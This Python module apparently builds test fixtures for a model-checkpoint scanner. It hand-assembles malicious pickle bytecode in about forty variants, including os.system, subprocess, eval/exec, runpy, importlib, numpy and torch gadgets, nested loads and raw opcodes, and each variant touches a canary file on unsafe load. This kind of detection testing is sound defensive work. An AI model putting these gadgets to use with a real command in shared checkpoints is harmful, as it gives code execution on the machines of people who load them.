"""Pickles that touch a canary when they are loaded without care, one for each way to do it."""

import io
import pickle
from collections.abc import Callable
from pathlib import Path

from checkpoint_corpus.archives import write_zip, zip_of


class Code(bytes):
    """Opcodes that leave one value on the stack."""


def name(module: str, dotted: str) -> Code:
    return Code(f"c{module}\n{dotted}\n".encode())


def value(plain: object) -> Code:
    """Return opcodes for a plain value; protocol 3 has bytes and no frames."""
    return plain if isinstance(plain, Code) else Code(pickle.dumps(plain, 3)[2:-1])


def call(module: str, dotted: str, *arguments: object) -> Code:
    return Code(name(module, dotted) + b"(" + b"".join(map(value, arguments)) + b"tR")


def pickled(code: bytes, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + code + b"."


def touch(canary: Path) -> str:
    return f"touch '{canary}'"


def system(canary: Path) -> Code:
    return call("os", "system", touch(canary))


def python(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def script(canary: Path) -> str:
    path = canary.with_name(canary.name + "_script.py")
    path.write_text(python(canary))
    return str(path)


def _saved(code: Code) -> bytes:
    buffer = io.BytesIO()
    write_zip(buffer, zip_of(pickled(code)))
    return buffer.getvalue()


def _source_loader(canary: Path) -> Code:
    machinery = "importlib._bootstrap_external"
    loader = call(machinery, "SourceFileLoader", "gadget", script(canary))
    return call(machinery, "SourceFileLoader.load_module", loader)


def _partial(canary: Path) -> Code:
    return Code(call("functools", "partial", name("os", "system"), touch(canary)) + b")R")


def _mapped(canary: Path) -> Code:
    return call("builtins", "list", call("builtins", "map", name("os", "system"), [touch(canary)]))


def _method(canary: Path) -> Code:
    return call("pathlib", "Path.touch", call("pathlib", "PosixPath", str(canary)))


def _caller(canary: Path) -> Code:
    caller = call("operator", "methodcaller", "touch")
    return Code(caller + b"(" + call("pathlib", "PosixPath", str(canary)) + b"tR")


def _attribute(canary: Path) -> Code:
    return Code(
        call("builtins", "getattr", call("pathlib", "PosixPath", str(canary)), "touch") + b")R"
    )


def _set_state(canary: Path) -> Code:
    """Return a BUILD whose state is made by a call."""
    return Code(name("argparse", "Namespace") + b")\x81" + system(canary) + b"b")


PAYLOADS: dict[str, Callable[[Path], Code]] = {
    "os.system": system,
    "posix.system": lambda c: call("posix", "system", touch(c)),
    "os.popen": lambda c: call("os", "popen", touch(c)),
    "os.mkdir": lambda c: call("os", "mkdir", str(c)),
    "os.symlink": lambda c: call("os", "symlink", "/", str(c)),
    "subprocess.getoutput": lambda c: call("subprocess", "getoutput", touch(c)),
    "subprocess.check_call": lambda c: call("subprocess", "check_call", ["touch", str(c)]),
    "subprocess.Popen": lambda c: call("subprocess", "Popen", ["touch", str(c)]),
    "builtins.eval": lambda c: call("builtins", "eval", python(c)),
    "builtins.exec": lambda c: call("builtins", "exec", python(c)),
    "builtins.open": lambda c: call("builtins", "open", str(c), "w"),
    "builtins.map": _mapped,
    "builtins.getattr": _attribute,
    "io.open": lambda c: call("io", "open", str(c), "w"),
    "io.FileIO": lambda c: call("io", "FileIO", str(c), "w"),
    "runpy.run_path": lambda c: call("runpy", "run_path", script(c)),
    "runpy._run_code": lambda c: call("runpy", "_run_code", python(c), {}),
    "importlib": _source_loader,
    "timeit.timeit": lambda c: call("timeit", "timeit", python(c), "pass", name("time", "time"), 1),
    "cProfile.run": lambda c: call("cProfile", "run", python(c), str(c)),
    "shutil.copyfile": lambda c: call("shutil", "copyfile", script(c), str(c)),
    "os.open": lambda c: call("os", "open", str(c), 0o101),
    "tarfile.open": lambda c: call("tarfile", "open", str(c), "w"),
    "zipfile.ZipFile": lambda c: call("zipfile", "ZipFile", str(c), "w"),
    "logging.FileHandler": lambda c: call("logging", "FileHandler", str(c)),
    "functools.partial": _partial,
    "operator.methodcaller": _caller,
    "a method of an inert class": _method,
    "a name inside another module": lambda c: call("shutil", "os.system", touch(c)),
    "pickle.loads": lambda c: call("pickle", "loads", pickled(system(c))),
    "_pickle.loads": lambda c: call("_pickle", "loads", pickled(system(c))),
    "numpy.memmap": lambda c: call("numpy", "memmap", str(c), "uint8", "w+", 0, 1),
    "numpy's myeval": lambda c: call("numpy.f2py.crackfortran", "myeval", python(c)),
    "torch._load_from_bytes": lambda c: call(
        "torch.storage", "_load_from_bytes", _saved(system(c))
    ),
    "torch's execWrapper": lambda c: call(
        "torch.jit.unsupported_tensor_ops", "execWrapper", python(c), {}, {}
    ),
    "torch's collect_env": lambda c: call("torch.utils.collect_env", "run", touch(c)),
    "torch.save": lambda c: call("torch", "save", 1, str(c)),
    "opcode INST": lambda c: Code(b"(" + value(touch(c)) + b"ios\nsystem\n"),
    "opcode OBJ": lambda c: Code(b"(" + name("io", "FileIO") + value(str(c)) + value("w") + b"o"),
    "opcode NEWOBJ": lambda c: Code(
        name("builtins", "list")
        + b"("
        + name("builtins", "map")
        + b"("
        + name("os", "system")
        + value([touch(c)])
        + b"t\x81"
        + b"tR"
    ),
    "opcode BUILD": _set_state,
}
